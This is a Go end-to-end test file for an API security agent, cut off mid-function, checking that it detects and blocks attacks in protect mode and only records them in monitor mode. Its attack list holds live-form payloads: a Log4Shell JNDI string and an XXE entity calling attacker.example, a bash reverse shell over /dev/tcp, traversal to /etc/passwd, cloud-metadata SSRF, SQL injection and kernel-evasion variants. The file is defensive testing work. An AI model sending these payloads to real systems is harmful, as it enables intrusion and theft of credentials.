package e2e

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/apiwarden/apiwarden/e2e/harness"
)

// The protect-mode tests drive their client connections through a probe: this
// test binary re-run inside the client namespace, reading one command per
// line on stdin. A probe is one TCP connection, so a test can send a benign
// request, then an attack, then look at what became of that very connection.
// The probe is a real process in the client namespace, which is what the
// agent needs to find and destroy the client's socket.

const probeEnv = "AWPROT_PROBE"

// probeLine prefixes the probe's answers; the test binary may print other
// lines (PASS) on the same stdout.
const probeLine = "AWPROT "

type probeCmd struct {
	Op        string `json:"op"` // dial | send | recv | await
	Addr      string `json:"addr,omitempty"`
	Data      []byte `json:"data,omitempty"`
	Method    string `json:"method,omitempty"`
	TimeoutMs int    `json:"timeoutMs"`
	// Split > 0 sends Data in two writes (two segments) cut at Split.
	Split int `json:"split,omitempty"`
	// Responses is how many responses to read (pipelining); 0 means 1.
	Responses int `json:"responses,omitempty"`
	// CA, on dial, makes the connection TLS (HTTP/1.1), the server
	// verified against this CA file.
	CA string `json:"ca,omitempty"`
	// From, on dial, is the local address to dial from (one of several
	// addresses of the client namespace).
	From string `json:"from,omitempty"`
}

type probeRes struct {
	Local  string  `json:"local,omitempty"`
	Status int     `json:"status,omitempty"`
	Kind   string  `json:"kind,omitempty"` // "" (ok), reset, timeout, eof, error, data
	Err    string  `json:"err,omitempty"`
	Ms     float64 `json:"ms"`
}

// TestAwprotProbe is not a test: it is the client process of the protect
// tests (see above) and skips unless run as one.
func TestAwprotProbe(t *testing.T) {
	if os.Getenv(probeEnv) != "1" {
		t.Skip("client process of the protect tests")
	}
	var c net.Conn
	var br *bufio.Reader
	sc := bufio.NewScanner(os.Stdin)
	sc.Buffer(make([]byte, 1<<16), 1<<20)
	out := json.NewEncoder(os.Stdout)
	for sc.Scan() {
		var cmd probeCmd
		var res probeRes
		if err := json.Unmarshal(sc.Bytes(), &cmd); err != nil {
			res.Kind, res.Err = "error", err.Error()
		}
		timeout := time.Duration(cmd.TimeoutMs) * time.Millisecond
		start := time.Now()
		switch {
		case res.Kind != "":
		case cmd.Op == "dial":
			var conn net.Conn
			var err error
			if cmd.CA != "" {
				conn, err = tlsDial(cmd.Addr, cmd.CA, timeout)
			} else {
				d := net.Dialer{Timeout: timeout}
				if cmd.From != "" {
					d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(cmd.From)}
				}
				conn, err = d.Dial("tcp", cmd.Addr)
			}
			res.Kind, res.Err = errKind(err), errString(err)
			if err == nil {
				if c != nil {
					c.Close()
				}
				c, br = conn, bufio.NewReader(conn)
				res.Local = conn.LocalAddr().String()
			}
		case c == nil:
			res.Kind, res.Err = "error", "not connected"
		case cmd.Op == "send":
			_ = c.SetDeadline(start.Add(timeout))
			data := cmd.Data
			var err error
			if cmd.Split > 0 && cmd.Split < len(data) {
				// TCP_NODELAY is on: the first part leaves as its own segment.
				_, err = c.Write(data[:cmd.Split])
				data = data[cmd.Split:]
				time.Sleep(20 * time.Millisecond)
			}
			if err == nil {
				_, err = c.Write(data)
			}
			for i := 0; err == nil && i < max(cmd.Responses, 1); i++ {
				var resp *http.Response
				if resp, err = http.ReadResponse(br, &http.Request{Method: cmd.Method}); err == nil {
					_, err = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					res.Status = resp.StatusCode
				}
			}
			res.Kind, res.Err = errKind(err), errString(err)
		case cmd.Op == "recv":
			// Reads one more response (of a request sent earlier whose
			// answer had not come within its send's timeout).
			_ = c.SetReadDeadline(start.Add(timeout))
			resp, err := http.ReadResponse(br, &http.Request{Method: cmd.Method})
			if err == nil {
				_, err = io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				res.Status = resp.StatusCode
			}
			res.Kind, res.Err = errKind(err), errString(err)
		case cmd.Op == "await":
			// Waits for the connection to end (or data to arrive).
			_ = c.SetReadDeadline(start.Add(timeout))
			_, err := br.ReadByte()
			res.Kind, res.Err = errKind(err), errString(err)
			if err == nil {
				res.Kind = "data"
			}
		default:
			res.Kind, res.Err = "error", "unknown op "+cmd.Op
		}
		res.Ms = float64(time.Since(start).Microseconds()) / 1000
		fmt.Fprint(os.Stdout, probeLine)
		_ = out.Encode(res)
	}
	if c != nil {
		c.Close()
	}
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

// errKind names what a client sees of an enforcement action.
func errKind(err error) string {
	var ne net.Error
	switch {
	case err == nil:
		return ""
	case errors.Is(err, syscall.ECONNRESET), errors.Is(err, syscall.ECONNABORTED), errors.Is(err, syscall.EPIPE):
		return "reset"
	case errors.Is(err, os.ErrDeadlineExceeded), errors.As(err, &ne) && ne.Timeout():
		return "timeout"
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return "eof"
	}
	return "error"
}

// probe is one client connection in the client namespace.
type probe struct {
	t     *testing.T
	cmd   *exec.Cmd
	in    io.WriteCloser
	out   *bufio.Scanner
	addr  string
	Local string // client ip:port after dial
}

// newProbe starts a probe process talking to goapi.
func (w *world) newProbe(t *testing.T) *probe {
	return startProbe(t, w.topo.CliNS, w.goapi.Addr)
}

// startProbe starts a probe process in the client namespace cliNS, dialling
// addr by default; it is killed by t.Cleanup at the latest.
func startProbe(t *testing.T, cliNS, addr string) *probe {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatalf("probe: %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	cmd := exec.CommandContext(ctx, "ip", "netns", "exec", cliNS, self,
		"-test.run=^TestAwprotProbe$", "-test.count=1")
	cmd.Env = append(os.Environ(), probeEnv+"=1")
	cmd.Stderr = io.Discard
	in, err := cmd.StdinPipe()
	if err != nil {
		cancel()
		t.Fatalf("probe stdin: %v", err)
	}
	outR, err := cmd.StdoutPipe()
	if err != nil {
		cancel()
		t.Fatalf("probe stdout: %v", err)
	}
	if err := cmd.Start(); err != nil {
		cancel()
		t.Fatalf("start probe: %v", err)
	}
	p := &probe{t: t, cmd: cmd, in: in, out: bufio.NewScanner(outR), addr: addr}
	t.Cleanup(func() {
		in.Close()
		cancel()
		_ = cmd.Wait()
	})
	return p
}

func (p *probe) do(c probeCmd) probeRes {
	b, _ := json.Marshal(c)
	if _, err := p.in.Write(append(b, '\n')); err != nil {
		return probeRes{Kind: "probe-died", Err: err.Error()}
	}
	for p.out.Scan() {
		line, ok := strings.CutPrefix(p.out.Text(), probeLine)
		if !ok {
			continue
		}
		var r probeRes
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			return probeRes{Kind: "probe-died", Err: err.Error()}
		}
		return r
	}
	return probeRes{Kind: "probe-died", Err: fmt.Sprint("probe output ended: ", p.out.Err())}
}

// dial connects to the probe's default address (goapi), in plaintext.
func (p *probe) dial(timeout time.Duration) probeRes {
	return p.dialTo(p.addr, "", timeout)
}

// dialTo connects to addr; a CA file makes the connection TLS.
func (p *probe) dialTo(addr, ca string, timeout time.Duration) probeRes {
	r := p.do(probeCmd{Op: "dial", Addr: addr, CA: ca, TimeoutMs: int(timeout / time.Millisecond)})
	p.Local = r.Local
	return r
}

func (p *probe) send(method string, raw []byte, timeout time.Duration) probeRes {
	return p.do(probeCmd{Op: "send", Method: method, Data: raw, TimeoutMs: int(timeout / time.Millisecond)})
}

func (p *probe) sendAttack(at attack, timeout time.Duration) probeRes {
	return p.do(probeCmd{Op: "send", Method: at.method, Data: at.raw, Split: at.split, Responses: at.resps,
		TimeoutMs: int(timeout / time.Millisecond)})
}

func (p *probe) await(timeout time.Duration) probeRes {
	return p.do(probeCmd{Op: "await", TimeoutMs: int(timeout / time.Millisecond)})
}

// rawRequest encodes one HTTP/1.1 request exactly as given: the attacks
// must reach the wire unnormalised.
func rawRequest(method, target string, headers []string, body string) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: goapi\r\nUser-Agent: awprot-probe\r\n", method, target)
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	if body != "" || method == "POST" {
		if !slices.ContainsFunc(headers, func(h string) bool { return strings.HasPrefix(strings.ToLower(h), "content-length:") }) {
			fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
		}
	}
	b.WriteString("\r\n" + body)
	return []byte(b.String())
}

func ping() []byte { return rawRequest("GET", "/api/v1/ping", nil, "") }

// attack is one realistic malicious request. marker is the path goapi logs
// for it, so the request log tells whether the handler ran.
type attack struct {
	class  string // expected event class
	kernel bool   // matched by a kernel rule (literal or deny rule)
	method string
	marker string
	raw    []byte
	split  int // send raw in two segments cut here (0: one segment)
	resps  int // responses to read (pipelined requests); 0 means 1
}

func attacks() []attack {
	get := func(class string, kernel bool, name, query string, headers ...string) attack {
		marker := "/api/v1/profiles/atk-" + name
		target := marker
		if query != "" {
			target += "?" + query
		}
		return attack{class: class, kernel: kernel, method: "GET", marker: marker, raw: rawRequest("GET", target, headers, "")}
	}
	post := func(class string, kernel bool, name string, headers []string, body string) attack {
		marker := "/api/v1/users/atk-" + name
		return attack{class: class, kernel: kernel, method: "POST", marker: marker, raw: rawRequest("POST", marker, headers, body)}
	}
	jsonCT := []string{"Content-Type: application/json"}
	return []attack{
		// Kernel literals (confidence >= 90 rules with kernel: in builtin.yaml).
		get("jndi", true, "jndi", "", "X-Api-Version: ${jndi:ldap://attacker.example:1389/Exploit}"),
		get("traversal", true, "traversal", "file=../../../../etc/passwd"),
		get("ssrf", true, "ssrf", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
		get("xss", true, "xss", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
		{class: "policy", kernel: true, method: "GET", marker: "/api/v1/admin/stats",
			raw: rawRequest("GET", "/api/v1/admin/stats", []string{"Authorization: Bearer a.eyJzdWIiOiJ4In0.c"}, "")},
		// Userspace only.
		get("sqli", false, "sqli", "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20"),
		get("xss", false, "xss-handler", "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
		get("cmdi", false, "cmdi-chain", "host=127.0.0.1%3Bid"),
		// "/dev/tcp/" is listed as a kernel literal of cmdi-shell-path, but that
		// rule's confidence (85) is below the kernel threshold (90), so the
		// userspace detector is what catches it.
		post("cmdi", false, "cmdi-devtcp", jsonCT, `{"host":"8.8.8.8; bash -i >& /dev/tcp/10.9.9.9/4444 0>&1"}`),
		get("ssrf", false, "ssrf-internal", "url=http://127.0.0.1:2375/containers/json"),
		get("ssti", false, "ssti", "name=%7B%7B7*7%7D%7D"),
		get("crlf", false, "crlf", "next=%2Fhome%0D%0ASet-Cookie:%20session%3Devil"),
		post("nosqli", false, "nosqli", jsonCT, `{"username":"admin","password":{"$ne":null}}`),
		post("xxe", false, "xxe", []string{"Content-Type: application/xml"},
			`<?xml version="1.0"?><!DOCTYPE data [<!ENTITY xxe SYSTEM "http://attacker.example/evil.dtd">]><data>&xxe;</data>`),
		// Defence in depth: the literal sits beyond the bytes the kernel scans
		// (ENFORCE_MAX_SCAN), so only the userspace detector can see it.
		get("jndi", false, "jndi-deep", "", "X-Padding: "+strings.Repeat("p", 600),
			"X-Api-Version: ${jndi:ldap://attacker.example:1389/Exploit}"),
		// Pipelined behind a benign request in the same segment: the kernel
		// scans the first bytes of a segment that starts a request, which
		// covers the second request, and drops the whole segment.
		func() attack {
			at := get("jndi", true, "jndi-pipelined", "", "X-Api-Version: ${jndi:ldap://attacker.example:1389/Exploit}")
			at.raw, at.resps = append(ping(), at.raw...), 2
			return at
		}(),
		// Kernel evasions the userspace detector still catches: the literal
		// split across two segments, and the attack pipelined behind a
		// benign request longer than the kernel's scan window.
		func() attack {
			at := get("jndi", false, "jndi-split", "", "X-Api-Version: ${jndi:ldap://attacker.example:1389/Exploit}")
			at.split = strings.Index(string(at.raw), "${jn") + 3
			return at
		}(),
		func() attack {
			at := get("jndi", false, "jndi-pipelined-deep", "", "X-Api-Version: ${jndi:ldap://attacker.example:1389/Exploit}")
			long := rawRequest("GET", "/api/v1/ping", []string{"X-Padding: " + strings.Repeat("p", 600)}, "")
			at.raw, at.resps = append(long, at.raw...), 2
			return at
		}(),
		post("smuggling", false, "smuggling", []string{"Content-Length: 5", "Transfer-Encoding: chunked"}, "0\r\n\r\n"),
	}
}

// protectConfig is the agent config of the protect tests: one deny rule and
// automatic blocking as given (threshold 0 turns it off, so a test sending
// many attacks is not cut off by it).
func protectConfig(t *testing.T, dir string, autoBlock string) string {
	t.Helper()
	cfg := "denyRules:\n  - {method: GET, pathPrefix: /api/v1/admin/, port: 8080}\n" +
		"autoBlock: " + autoBlock + "\n"
	p := filepath.Join(dir, fmt.Sprintf("awprot-%d.yaml", time.Now().UnixNano()))
	if err := os.WriteFile(p, []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// startAgentMode runs the agent in mode with a config file.
func (w *world) startAgentMode(t *testing.T, bin, mode, config string) *harness.Agent {
	t.Helper()
	a, err := harness.StartAgent(harness.AgentConfig{Bin: bin, Ifaces: w.topo.Ifaces(),
		DataDir: filepath.Join(w.dir, "data-"+mode), Mode: mode, Config: config,
		LogFile: filepath.Join(w.dir, fmt.Sprintf("agent-%s-%d.log", mode, time.Now().UnixNano()))})
	if err != nil {
		t.Fatalf("start agent: %v", err)
	}
	t.Cleanup(func() {
		a.Kill()
		if t.Failed() {
			t.Logf("agent log %s (tail):\n%s", a.Cfg.LogFile, tailStr(a.Output(), 6000))
		}
	})
	if err := a.WaitReady(30 * time.Second); err != nil {
		t.Fatalf("agent: %v", err)
	}
	if err := a.WaitAttached(w.topo.Ifaces(), 10*time.Second); err != nil {
		t.Fatal(err)
	}
	return a
}

// apiEvent is the REST form of one security event.
type apiEvent struct {
	Class    string `json:"class"`
	RuleID   string `json:"ruleId"`
	Severity string `json:"severity"`
	Part     string `json:"part"`
	Excerpt  string `json:"excerpt"`
	Action   string `json:"action"`
	Client   string `json:"client"`
	Service  string `json:"service"`
	Endpoint string `json:"endpoint"`
}

func events(a *harness.Agent, query url.Values) ([]apiEvent, error) {
	var res struct {
		Events []apiEvent `json:"events"`
	}
	query.Set("limit", "1000")
	err := a.GetJSON("/v1/events?"+query.Encode(), &res)
	return res.Events, err
}

// waitEvent polls the event log until match accepts one of the events.
func waitEvent(a *harness.Agent, query url.Values, timeout time.Duration, match func(apiEvent) bool) (apiEvent, []apiEvent, error) {
	deadline := time.Now().Add(timeout)
	for {
		evs, err := events(a, query)
		for _, e := range evs {
			if match(e) {
				return e, evs, nil
			}
		}
		if time.Now().After(deadline) {
			return apiEvent{}, evs, fmt.Errorf("no matching event in %v (last error %v)", timeout, err)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// rootGet is the "other client": the root namespace reaches the server
// through the watched server-side veth, from another address.
func rootGet(addr string) (int, error) {
	hc := &http.Client{Timeout: 2 * time.Second}
	resp, err := hc.Get("http://" + addr + "/api/v1/ping")
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, nil
}

func fmtEvents(evs []apiEvent) string {
	var b strings.Builder
	for _, e := range evs {
		fmt.Fprintf(&b, "  %s %s %s %s %s %q\n", e.Client, e.Class, e.RuleID, e.Action, e.Part, e.Excerpt)
	}
	return b.String()
}

func TestProtectBlocksAttacks(t *testing.T) {
	bin := needAgent(t)
	w := newWorld(t)
	a := w.startAgentMode(t, bin, "protect", protectConfig(t, w.dir, "{threshold: 0}"))

	// A keep-alive connection that must survive every attack on the others.
	keep := w.newProbe(t)
	if r := keep.dial(2 * time.Second); r.Kind != "" {
		t.Fatalf("dial keep-alive probe: %+v", r)
	}
	if r := keep.send("GET", ping(), 2*time.Second); r.Status != 200 {
		t.Fatalf("benign request before attacks: %+v", r)
	}
	type attackCase struct {
		name, addr string
		at         attack
	}
	var cases []attackCase
	for _, at := range attacks() {
		cases = append(cases, attackCase{at.class + "-" + strings.TrimPrefix(filepath.Base(at.marker), "atk-"), w.goapi.Addr, at})
	}
	if w.topo.IPv6 && w.goapi.Addr6 != "" {
		// The kernel rules and the flow flags must work on IPv6 flows too.
		for _, at := range attacks() {
			if at.marker == "/api/v1/profiles/atk-jndi" || at.marker == "/api/v1/profiles/atk-sqli" {
				cases = append(cases, attackCase{"ipv6-" + at.class, w.goapi.Addr6, at})
			}
		}
	} else {
		t.Log("no IPv6 in this topology: IPv6 cases skipped")
	}
	var kernelMs, userMs []float64
	for _, c := range cases {
		at := c.at
		t.Run(c.name, func(t *testing.T) {
			p := w.newProbe(t)
			p.addr = c.addr
			if r := p.dial(2 * time.Second); r.Kind != "" {
				t.Fatalf("dial: %+v", r)
			}
			if r := p.send("GET", ping(), 2*time.Second); r.Status != 200 {
				t.Fatalf("benign request before the attack on the same connection: %+v", r)
			}
			r := p.sendAttack(at, 2*time.Second)
			if at.kernel {
				// The segment is dropped and the agent destroys the client's
				// socket: a reset, not a retransmission timeout.
				if r.Status != 0 || r.Kind != "reset" {
					t.Errorf("kernel-rule attack: %+v (want a reset and no response)", r)
				} else {
					t.Logf("kernel drop: client saw %s %.1f ms after sending", r.Kind, r.Ms)
					kernelMs = append(kernelMs, r.Ms)
				}
			} else {
				// The hold point: the completing segment waits in the
				// kernel's verdict queue until the detector has judged the
				// request, and is dropped with both ends reset: the
				// handler never runs and no response byte is sent.
				if r.Status != 0 || r.Kind != "reset" {
					t.Errorf("held attack: %+v (want a reset and no response)", r)
				} else {
					t.Logf("held and cut: client saw %s %.1f ms after sending", r.Kind, r.Ms)
					userMs = append(userMs, r.Ms)
				}
			}
			if r2 := p.send("GET", ping(), 1500*time.Millisecond); r2.Status != 0 || r2.Kind == "" {
				t.Errorf("second request on the cut connection succeeded: %+v", r2)
			}
			ev, evs, err := waitEvent(a, url.Values{"class": {at.class}}, 3*time.Second, func(e apiEvent) bool {
				return e.Client == p.Local && e.Class == at.class
			})
			if err != nil {
				t.Errorf("event class %s for client %s: %v; events of the class:\n%s", at.class, p.Local, err, fmtEvents(evs))
			} else {
				if ev.Action != "blocked" || ev.Service != "goapi" {
					t.Errorf("event action %q service %q, want blocked by goapi: %+v", ev.Action, ev.Service, ev)
				}
				if kernelPart := ev.Part == "request (kernel)"; kernelPart != at.kernel {
					t.Errorf("event part %q: kernel path = %v, want %v", ev.Part, kernelPart, at.kernel)
				}
			}
			// Other connections and other clients are unaffected.
			if rk := keep.send("GET", ping(), 2*time.Second); rk.Status != 200 {
				t.Errorf("benign keep-alive connection after the attack: %+v", rk)
			}
			fresh := w.newProbe(t)
			if rf := fresh.dial(2 * time.Second); rf.Kind != "" {
				t.Errorf("fresh connection from the same client: %+v", rf)
			} else if rf := fresh.send("GET", ping(), 2*time.Second); rf.Status != 200 {
				t.Errorf("benign request on a fresh connection: %+v", rf)
			}
			if code, err := rootGet(w.goapi.Addr); code != 200 {
				t.Errorf("other client: status %d err %v", code, err)
			}
		})
	}

	// No attack reached a handler: the kernel rules drop the first segment,
	// the hold point holds the rest until the detector's verdict.
	logLines, err := w.goapi.RequestLog()
	if err != nil {
		t.Fatal(err)
	}
	for _, at := range attacks() {
		if slices.ContainsFunc(logLines, func(l string) bool { return strings.Fields(l)[1] == at.marker }) {
			t.Errorf("attack %s (kernel rule %v) reached the server handler", at.marker, at.kernel)
		}
	}
	if r := keep.send("GET", ping(), 2*time.Second); r.Status != 200 {
		t.Errorf("benign keep-alive connection after all attacks: %+v", r)
	}
	if evs, err := events(a, url.Values{"action": {"monitor"}}); err == nil && len(evs) > 0 {
		t.Errorf("protect mode recorded monitor-only events:\n%s", fmtEvents(evs))
	}
	t.Logf("time to cut: kernel path %v ms, held (userspace verdict) %v ms", kernelMs, userMs)
	w.stopAgent(t, a) // exit 0 and every program (capture, enforce, guard) detached
}

func TestMonitorRecordsWithoutBlocking(t *testing.T) {
	bin := needAgent(t)
	w := newWorld(t)
	a := w.startAgentMode(t, bin, "monitor", protectConfig(t, w.dir, "{threshold: 3, window: 1m, ttl: 10m}"))
	for _, at := range attacks() {
		p := w.newProbe(t)
		if r := p.dial(2 * time.Second); r.Kind != "" {
			t.Fatalf("%s: dial: %+v", at.marker, r)
		}
		if r := p.sendAttack(at, 2*time.Second); r.Status == 0 {
			t.Errorf("%s (%s): no response in monitor mode: %+v", at.marker, at.class, r)
			continue
		}
		if r := p.send("GET", ping(), 2*time.Second); r.Status != 200 {
			t.Errorf("%s (%s): connection not usable after the attack in monitor mode: %+v", at.marker, at.class, r)
		}
		if at.class == "policy" {
			// Deny rules live only in the kernel's verdict program, which a
			// pure monitor-mode agent does not load: nothing to record.
			continue
		}
		ev, evs, err := waitEvent(a, url.Values{"class": {at.class}}, 3*time.Second, func(e apiEvent) bool {
			return e.Client == p.Local && e.Class == at.class
		})
		if err != nil {
			t.Errorf("%s: event class %s for client %s: %v; events of the class:\n%s", at.marker, at.class, p.Local, err, fmtEvents(evs))
		} else if ev.Action != "monitor" {
			t.Errorf("%s: event action %q, want monitor", at.marker, ev.Action)
		}
	}
	logLines, err := w.goapi.RequestLog()
	if err != nil {
		t.Fatal(err)
	}
	for _, at := range attacks() {
		if at.class == "smuggling" {
			continue // goapi may answer it before a handler runs
		}
		if !slices.ContainsFunc(logLines, func(l string) bool { return strings.Fields(l)[1] == at.marker }) {
			t.Errorf("%s did not reach the server in monitor mode", at.marker)
		}
	}
	if evs, err := events(a, url.Values{"action": {"blocked"}}); err != nil || len(evs) > 0 {
		t.Errorf("monitor mode blocked something (err %v):\n%s", err, fmtEvents(evs))
	}
	// Monitor mode holds nothing: no hold point, no queue rule.
	if c := statusCounters(t, a); c["hold_held"] != 0 || c["enforce_hold_marked"] != 0 {
		t.Errorf("monitor mode held packets: hold_held %d, marked %d", c["hold_held"], c["enforce_hold_marked"])
	}
	if ok, err := nftTableExists(); err != nil || ok {
		t.Errorf("monitor mode installed the hold table (exists=%v err=%v)", ok, err)
	}
	// Automatic blocking is only recorded in monitor mode.
	if _, evs, err := waitEvent(a, url.Values{"class": {"abuse"}}, 3*time.Second, func(e apiEvent) bool { return true }); err != nil {
		t.Errorf("no abuse event in monitor mode after %d attacks: %v", len(attacks()), err)
	} else if evs[0].Action != "monitor" {
		t.Errorf("abuse event action %q in monitor mode", evs[0].Action)
	}
	if ok, r := w.reachable(t, 2*time.Second); !ok {
		t.Errorf("client blocked in monitor mode: %+v", r)
	}
	// A manual block is an explicit order: it is enforced in monitor mode
	// too (the guard is attached on first use).
	src := w.topo.CliIP + "/32"
	if code, body, err := a.Do("POST", "/v1/blocklist", map[string]string{"prefix": src, "reason": "awprot e2e"}); err != nil || code != 200 {
		t.Fatalf("add block: %d %s %v", code, body, err)
	}
	if ok, r := w.reachable(t, time.Second); ok || r.Kind != "timeout" {
		t.Errorf("manually blocked client in monitor mode: reachable=%v %+v (want a timeout)", ok, r)
	}
	if code, body, err := a.Do("DELETE", "/v1/blocklist/"+src, nil); err != nil || code != 200 {
		t.Fatalf("delete block: %d %s %v", code, body, err)
	}
	if _, ok := w.waitReachable(t, 2*time.Second); !ok {
		t.Errorf("client still blocked after DELETE in monitor mode")
	}
}

type apiBlock struct {
	Prefix  string `json:"prefix"`
	Reason  string `json:"reason"`
	Expires string `json:"expires"`
}

func blocklist(a *harness.Agent) ([]apiBlock, error) {
	var res struct {
		Blocks []apiBlock `json:"blocks"`
	}
	err := a.GetJSON("/v1/blocklist", &res)
	return res.Blocks, err
}

// reachable reports whether a fresh connection from the client namespace
// gets an answer from goapi within timeout.
func (w *world) reachable(t *testing.T, timeout time.Duration) (bool, probeRes) {
	p := w.newProbe(t)
	r := p.dial(timeout)
	if r.Kind != "" {
		return false, r
	}
	r = p.send("GET", ping(), timeout)
	return r.Status == 200, r
}

// waitReachable polls until the client reaches goapi again and returns how
// long that took.
func (w *world) waitReachable(t *testing.T, timeout time.Duration) (time.Duration, bool) {
	start := time.Now()
	for time.Since(start) < timeout {
		if ok, _ := w.reachable(t, 300*time.Millisecond); ok {
			return time.Since(start), true
		}
		time.Sleep(100 * time.Millisecond)
	}
	return time.Since(start), false
}

func TestBlockedSourceDroppedForTTL(t *testing.T) {
	bin := needAgent(t)
	w := newWorld(t)
	a := w.startAgentMode(t, bin, "protect", protectConfig(t, w.dir, "{threshold: 3, window: 1m, ttl: 3s}"))
	src := w.topo.CliIP + "/32"
	if ok, r := w.reachable(t, 2*time.Second); !ok {
		t.Fatalf("client cannot reach goapi before any block: %+v", r)
	}

	keep := w.newProbe(t)
	if r := keep.dial(2 * time.Second); r.Kind != "" {
		t.Fatalf("dial: %+v", r)
	}
	if r := keep.send("GET", ping(), 2*time.Second); r.Status != 200 {
		t.Fatalf("benign request: %+v", r)
	}
	t.Run("manual-ttl", func(t *testing.T) {
		code, body, err := a.Do("POST", "/v1/blocklist", map[string]string{"prefix": src, "ttl": "3s", "reason": "awprot e2e"})
		if err != nil || code != 200 {
			t.Fatalf("add block: %d %s %v", code, body, err)
		}
		blockedAt := time.Now()
		if ok, r := w.reachable(t, time.Second); ok || r.Kind != "timeout" {
			t.Errorf("blocked client: reachable=%v %+v (want a timeout)", ok, r)
		}
		if r := keep.send("GET", ping(), time.Second); r.Kind != "timeout" {
			t.Errorf("established connection of a blocked client: %+v (want a timeout)", r)
		}
		if code, err := rootGet(w.goapi.Addr); code != 200 {
			t.Errorf("other client while %s is blocked: %d %v", src, code, err)
		}
		bl, err := blocklist(a)
		if err != nil || !slices.ContainsFunc(bl, func(b apiBlock) bool { return b.Prefix == src }) {
			t.Errorf("blocklist does not list %s: %+v %v", src, bl, err)
		}
		_, ok := w.waitReachable(t, 8*time.Second)
		if !ok {
			t.Fatalf("client still blocked %v after a 3s block", time.Since(blockedAt))
		}
		after := time.Since(blockedAt)
		t.Logf("manual block with ttl 3s: client reachable again %v after the block", after.Round(10*time.Millisecond))
		if after < 2500*time.Millisecond {
			t.Errorf("block lifted after %v, before its 3s ttl", after)
		}
	})

	t.Run("manual-delete", func(t *testing.T) {
		code, body, err := a.Do("POST", "/v1/blocklist", map[string]string{"prefix": src, "reason": "awprot e2e"})
		if err != nil || code != 200 {
			t.Fatalf("add block: %d %s %v", code, body, err)
		}
		if ok, r := w.reachable(t, time.Second); ok || r.Kind != "timeout" {
			t.Errorf("blocked client: reachable=%v %+v (want a timeout)", ok, r)
		}
		code, body, err = a.Do("DELETE", "/v1/blocklist/"+src, nil)
		if err != nil || code != 200 {
			t.Fatalf("delete block: %d %s %v", code, body, err)
		}
		if d, ok := w.waitReachable(t, 2*time.Second); !ok {
			t.Errorf("client still blocked after DELETE")
		} else {
			t.Logf("DELETE: client reachable again after %v", d.Round(10*time.Millisecond))
		}
		if bl, err := blocklist(a); err != nil || slices.ContainsFunc(bl, func(b apiBlock) bool { return b.Prefix == src }) {
			t.Errorf("blocklist after DELETE: %+v %v", bl, err)
		}
	})

	t.Run("auto-block", func(t *testing.T) {
		sqli := rawRequest("GET", "/api/v1/profiles/atk-auto?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20", nil, "")
		for i := 0; i < 3; i++ {
			p := w.newProbe(t)
			if r := p.dial(2 * time.Second); r.Kind != "" {
				t.Fatalf("attack %d: dial: %+v", i+1, r)
			}
			p.send("GET", sqli, 2*time.Second)
		}
		ev, evs, err := waitEvent(a, url.Values{"class": {"abuse"}}, 3*time.Second, func(e apiEvent) bool { return true })
		if err != nil {
			all, _ := events(a, url.Values{})
			t.Fatalf("no abuse event after 3 attacks: %v; all events:\n%s", err, fmtEvents(all))
		}
		blockedAt := time.Now()
		if ev.Action != "blocked" || ev.Client != w.topo.CliIP {
			t.Errorf("abuse event %+v (events %d), want action blocked for %s", ev, len(evs), w.topo.CliIP)
		}
		bl, err := blocklist(a)
		if err != nil || !slices.ContainsFunc(bl, func(b apiBlock) bool { return b.Prefix == src }) {
			t.Errorf("blocklist does not list %s: %+v %v", src, bl, err)
		}
		if ok, r := w.reachable(t, time.Second); ok || r.Kind != "timeout" {
			t.Errorf("auto-blocked client: reachable=%v %+v (want a timeout)", ok, r)
		}
		if code, err := rootGet(w.goapi.Addr); code != 200 {
			t.Errorf("other client while %s is auto-blocked: %d %v", src, code, err)
		}
		if _, ok := w.waitReachable(t, 8*time.Second); !ok {
			t.Fatalf("client still blocked %v after a 3s auto-block", time.Since(blockedAt))
		}
		t.Logf("auto-block ttl 3s: client reachable again %v after the abuse event was seen",
			time.Since(blockedAt).Round(10*time.Millisecond))
	})

	// Attacks the kernel drops are findings too: a scanner spraying Log4Shell
	// probes must be blocked like one whose probes reach userspace.
	t.Run("auto-block-kernel", func(t *testing.T) {
		before, _ := events(a, url.Values{"class": {"abuse"}})
		jndi := rawRequest("GET", "/api/v1/profiles/atk-auto", []string{"X-Api-Version: ${jndi:ldap://attacker.example/a}"}, "")
		for i := 0; i < 3; i++ {
			p := w.newProbe(t)
			if r := p.dial(2 * time.Second); r.Kind != "" {
				t.Fatalf("attack %d: dial: %+v", i+1, r)
			}
			if r := p.send("GET", jndi, 2*time.Second); r.Kind != "reset" {
				t.Errorf("attack %d: %+v, want a kernel drop and reset", i+1, r)
			}
		}
		var now []apiEvent
		for deadline := time.Now().Add(3 * time.Second); len(now) <= len(before); time.Sleep(50 * time.Millisecond) {
			if now, _ = events(a, url.Values{"class": {"abuse"}}); time.Now().After(deadline) {
				t.Fatalf("no new abuse event after 3 kernel-dropped attacks (%d before, %d now)", len(before), len(now))
			}
		}
		if now[0].Action != "blocked" || now[0].Client != w.topo.CliIP {
			t.Errorf("abuse event %+v, want action blocked for %s", now[0], w.topo.CliIP)
		}
		if ok, r := w.reachable(t, time.Second); ok || r.Kind != "timeout" {
